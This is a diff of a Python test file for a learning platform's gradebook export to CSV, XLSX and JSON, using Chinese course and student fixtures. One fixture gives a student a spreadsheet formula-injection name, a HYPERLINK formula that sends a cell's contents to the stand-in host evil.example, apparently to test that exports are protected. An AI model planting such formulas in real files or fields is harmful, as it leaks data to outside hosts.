@@ -11,20 +11,19 @@ from urllib.parse import quote
 import openpyxl
 import pytest
 
-from lms.practicals import gradebook
-from tests.factories import assert_problem
-from tests.practicals.grading_helpers import (
+from lms.completion import gradebook
+from tests.builders import (
+    add_completion,
+    add_course,
+    add_enrolment,
     add_grade,
-    assign,
-    client_for,
-    complete,
-    enrol,
-    make_course,
-    make_practical,
-    make_theory,
-    quiz_attempt,
-    submit,
+    add_instructor,
+    add_practical,
+    add_quiz_attempt,
+    add_submission,
+    add_theory,
 )
+from tests.http import assert_problem, client_for
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 BOM = b"\xef\xbb\xbf"
@@ -34,42 +33,42 @@ BOM = b"\xef\xbb\xbf"
 def book(app, users):
     """A course with two theory modules (one with a quiz) and a practical, and teachers in
     every interesting state."""
-    course = make_course(code="GZ-BOOK-2020")
-    intro = make_theory(course, title="工业互联网体系架构", hours="4", position=0)
-    quiz = make_theory(course, title="5G与边缘计算", hours="2", quiz=True, position=1)
-    lab = make_practical(course, title="设备接入实训", hours="8", position=2, reopen="until_pass")
+    course = add_course(code="GZ-BOOK-2020")
+    intro = add_theory(course, title="工业互联网体系架构", hours="4", position=0)
+    quiz = add_theory(course, title="5G与边缘计算", hours="2", quiz=True, position=1)
+    lab = add_practical(course, title="设备接入实训", hours="8", position=2, reopen="until_pass")
     instructor = users.create(role="instructor")
-    assign(course, instructor)
+    add_instructor(course, instructor)
 
     li = users.create(
         full_name="李明", email="liming@example.edu.cn", institution="广东轻工职业技术学院"
     )
-    e = enrol(course, li)
-    complete(e, intro)
-    quiz_attempt(e, quiz, 40)
-    quiz_attempt(e, quiz, 80, attempt_no=2)
-    complete(e, quiz, how="quiz")
-    add_grade(submit(e, lab), total="85.5")
+    e = add_enrolment(course, li)
+    add_completion(e, intro)
+    add_quiz_attempt(e, quiz, 40)
+    add_quiz_attempt(e, quiz, 80, attempt_no=2)
+    add_completion(e, quiz, how="quiz")
+    add_grade(add_submission(e, lab), total="85.5")
 
     evil = users.create(full_name=EVIL_NAME, email="evil@example.edu.cn", institution="+86 学院")
-    e = enrol(course, evil)
-    quiz_attempt(e, quiz, 45)
-    add_grade(submit(e, lab), total=30, status="returned")
+    e = add_enrolment(course, evil)
+    add_quiz_attempt(e, quiz, 45)
+    add_grade(add_submission(e, lab), total=30, status="returned")
 
     wang = users.create(full_name="王芳", email="wangfang@example.edu.cn")
-    e = enrol(course, wang)
-    add_grade(submit(e, lab), total=40)  # failed; until_pass reopened it
-    submit(e, lab, attempt_no=2)
+    e = add_enrolment(course, wang)
+    add_grade(add_submission(e, lab), total=40)  # failed; until_pass reopened it
+    add_submission(e, lab, attempt_no=2)
 
     zhao = users.create(full_name="赵六", email="zhaoliu@example.edu.cn")
-    enrol(course, zhao, status="withdrawn")
-    enrol(course, users.create(full_name="候补者"), status="waitlisted")
+    add_enrolment(course, zhao, status="withdrawn")
+    add_enrolment(course, users.create(full_name="候补者"), status="waitlisted")
 
     sun = users.create(full_name="孙七", email="sunqi@example.edu.cn")
-    e = enrol(course, sun, status="completed")
-    complete(e, intro)
-    add_grade(submit(e, lab), total=40)
-    add_grade(submit(e, lab, attempt_no=2), total=70)
+    e = add_enrolment(course, sun, status="completed")
+    add_completion(e, intro)
+    add_grade(add_submission(e, lab), total=40)
+    add_grade(add_submission(e, lab, attempt_no=2), total=70)
 
     return {
         "course": course,
@@ -139,11 +138,10 @@ def test_csv_has_a_bom_chinese_headers_and_one_row_per_enrolment(book):
     assert response.mimetype == "text/csv"
     assert response.mimetype_params["charset"] == "utf-8"
     assert response.headers["Content-Disposition"] == (
-        'attachment; filename="GZ-BOOK-2020-gradebook.csv"; '
-        "filename*=UTF-8''GZ-BOOK-2020-gradebook.csv"
+        "attachment; filename=GZ-BOOK-2020-gradebook.csv"
     )
     assert "Content-Length" not in response.headers  # streamed
-    assert response.headers["Cache-Control"] == "no-store"
+    assert response.headers["Cache-Control"] == "private, no-store"
     rows = _csv_rows(response)
     assert rows[0] == HEADER_ZH
     assert rows[1:] == ROWS_ZH
@@ -181,9 +179,7 @@ def test_english_headers_and_labels(book):
 def test_xlsx_opens_with_openpyxl_and_has_the_same_rows(book):
     response = _get(book["instructor"], book["course"].id, "?format=xlsx")
     assert response.mimetype == gradebook.XLSX_MIMETYPE
-    assert response.headers["Content-Disposition"].endswith(
-        "filename*=UTF-8''GZ-BOOK-2020-gradebook.xlsx"
-    )
+    assert response.headers["Content-Disposition"].endswith("filename=GZ-BOOK-2020-gradebook.xlsx")
     assert int(response.headers["Content-Length"]) == len(response.get_data())
     workbook = openpyxl.load_workbook(io.BytesIO(response.get_data()))
     sheet = workbook.active
@@ -283,14 +279,14 @@ def test_chunks_give_the_same_rows_as_one_batch(book, monkeypatch):
 
 
 def test_an_empty_course_gives_the_header_or_an_empty_list(admin_client):
-    course = make_course(code="广州-2020")
-    make_theory(course)
+    course = add_course(code="广州-2020")
+    add_theory(course)
     csv_response = _get(admin_client, course.id)
     assert _csv_rows(csv_response) == [
         HEADER_ZH[:4] + ["工业互联网体系架构（理论）"] + HEADER_ZH[-3:]
     ]
     assert csv_response.headers["Content-Disposition"] == (
-        'attachment; filename="-2020-gradebook.csv"; '
+        "attachment; filename=-2020-gradebook.csv; "
         f"filename*=UTF-8''{quote('广州-2020-gradebook.csv')}"
     )
     assert json.loads(_get(admin_client, course.id, "?format=json").get_data()) == []
@@ -303,14 +299,14 @@ def test_an_empty_course_gives_the_header_or_an_empty_list(admin_client):
 def test_the_export_issues_a_constant_number_of_queries(users, admin_client, count_queries):
     counts = []
     for size in (5, 40):
-        course = make_course()
-        theory, lab = make_theory(course, quiz=True), make_practical(course)
+        course = add_course()
+        theory, lab = add_theory(course, quiz=True), add_practical(course)
         for i in range(size):
-            e = enrol(course, users.create())
-            quiz_attempt(e, theory, 50 + i % 50)
+            e = add_enrolment(course, users.create())
+            add_quiz_attempt(e, theory, 50 + i % 50)
             if i % 2:
-                complete(e, theory, how="quiz")
-            add_grade(submit(e, lab), total=50 + i % 50)
+                add_completion(e, theory, how="quiz")
+            add_grade(add_submission(e, lab), total=50 + i % 50)
         for fmt in ("csv", "xlsx", "json"):
             with count_queries() as statements:
                 body = _get(admin_client, course.id, f"?format={fmt}").get_data()
